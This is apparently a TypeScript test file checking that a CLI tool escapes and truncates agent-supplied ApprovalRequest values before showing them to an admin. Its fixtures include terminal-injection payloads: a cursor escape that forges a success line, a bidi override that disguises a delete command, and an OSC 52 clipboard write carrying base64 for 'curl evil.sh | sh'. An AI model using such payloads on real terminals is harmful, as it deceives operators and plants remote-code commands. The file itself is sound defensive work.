// Agent-written values (an ApprovalRequest's tool and channel) reach the admin's terminal through
// `thoughtgate check`: no escape sequence, bidi override or megabyte survives into the output.
import { boundItems, boundText, MAX_ITEM } from './bounded-text.js';
import type { CheckResult, Custom } from './model.js';
import { renderHuman, renderJson } from './render.js';
import { checkRequests } from './resource-checks.js';

const now = new Date('2026-12-06T08:00:00Z');
const settings = { certWarnMs: 0, approvalWarnMs: 30 * 60_000 };
const CURSOR_UP = '\x1b[3A\x1b[2K✔ all good';
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const RLO = 'deploy\u202Eelif_eteled';
const MEGA = 'x'.repeat(1 << 20);

/** A pending ApprovalRequest as an agent may create it: no status, spec chosen by the agent. */
const request = (name: string, spec: Record<string, unknown>): Custom => ({
  metadata: { name, namespace: 'agents', creationTimestamp: new Date(now.getTime() - 45 * 60_000).toISOString() },
  spec,
});

/** Anything a terminal acts on: C0/C1 controls, DEL, bidi and other format characters. */
const ACTIVE = /[\p{Cc}\p{Cf}]/u;

describe('hostile ApprovalRequests in the output', () => {
  const requests: Custom[] = [
    request('up', { tool: CURSOR_UP, channel: 'ops' }),
    request('clip', { tool: 'read', channel: OSC52 }),
    request('rlo', { tool: RLO, channel: 'ops' }),
    request('mega', { tool: MEGA, channel: MEGA }),
    request('c1', { tool: 'a\u009b2Jb\x7f\u2066\u200f\u061c', channel: { nested: true } }),
  ];
  const result = checkRequests({ ok: true, value: requests }, now, settings);

  test('human: every control shown as an escape, the ✖/✔ lines cannot be overwritten', () => {
    const text = renderHuman([result], 'thoughtgate check: https://k, namespace tg');
    expect(text.replace(/\n/g, '')).not.toMatch(ACTIVE);
    expect(text).toContain('tool \\u001B[3A\\u001B[2K✔ all good, channel ops');
    expect(text).toContain('channel \\u001B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007');
    expect(text).toContain('tool deploy\\u202Eelif_eteled');
    expect(text).toContain('tool a\\u009B2Jb\\u007F\\u2066\\u200F\\u061C, channel [object Object]');
    // Each item is one line, bounded; the megabyte is cut where it is read.
    for (const line of text.split('\n')) expect(line.length).toBeLessThanOrEqual(MAX_ITEM + 20);
    expect(text.length).toBeLessThan(3_000);
    expect(text).toMatch(/agents\/mega: 45m, Pending, tool x{64}… \(\+1048512\), channel x{64}… \(\+1048512\)/);
  });

  test('JSON: the same document when parsed, with no raw control or bidi character, and bounded', () => {
    const json = renderJson([result], { mode: 'post', server: 'https://k', namespace: 'tg', time: now });
    expect(json.replace(/\n/g, '')).not.toMatch(ACTIVE);
    expect(json.length).toBeLessThan(5_000);
    const items = JSON.parse(json).checks[0].items as string[];
    expect(items).toContain('agents/rlo: 45m, Pending, tool deploy\u202Eelif_eteled, channel ops');
    expect(items).toContain(`agents/up: 45m, Pending, tool ${CURSOR_UP}, channel ops`);
    expect(items.find((i) => i.startsWith('agents/c1'))).toContain('a\u009b2Jb\x7f\u2066\u200f\u061c');
  });

  test('a flood of pending requests: the terminal shows 20 and the count', () => {
    const flood = Array.from({ length: 5000 }, (_, i) => request(`r${String(i).padStart(4, '0')}`, { tool: MEGA, channel: OSC52 }));
    const text = renderHuman([checkRequests({ ok: true, value: flood }, now, settings)], 'h');
    expect(text).toContain('‼ 5000 of 5000 pending ApprovalRequest(s) waited longer than 30m');
    expect(text).toContain('    … and 4980 more (-o json lists every one)');
    expect(text.split('\n').length).toBeLessThan(35);
    expect(text.replace(/\n/g, '')).not.toMatch(ACTIVE);
  });
});

describe('bounds', () => {
  test('text: cut with the count of what is not shown; escapes count as shown', () => {
    expect(boundText('abcdef', 4, false)).toBe('abcd… (+2)');
    expect(boundText('abc', 3, true)).toBe('abc');
    expect(boundText('\x1b\x1b', 8, true)).toBe('\\u001B… (+1)');
    expect(boundText('😀😀', 3, false)).toBe('😀… (+2)');
    expect(boundText('a\u{E0041}', 20, true)).toBe('a\\u{E0041}');
  });

  test('items: in a terminal the first 20, then how many more; in JSON all; each bounded', () => {
    const many = Array.from({ length: 25 }, (_, i) => `pod-${i}`);
    expect(boundItems(many, true)).toEqual([...many.slice(0, 20), '… and 5 more (-o json lists every one)']);
    expect(boundItems([...many, 'x'.repeat(300)], false)).toEqual([...many, `${'x'.repeat(200)}… (+100)`]);
    const results: CheckResult[] = [{ id: 'capture/required', group: 'capture', status: 'fail', message: 'uncaptured', items: many, hint: 'restart' }];
    const text = renderHuman(results, 'h');
    expect(text).toContain('    pod-19\n    … and 5 more (-o json lists every one)\n    hint: restart');
    expect(text).not.toContain('pod-20');
    expect(JSON.parse(renderJson(results, { mode: 'post', server: 's', namespace: 'n', time: now })).checks[0].items).toEqual(many);
  });
});
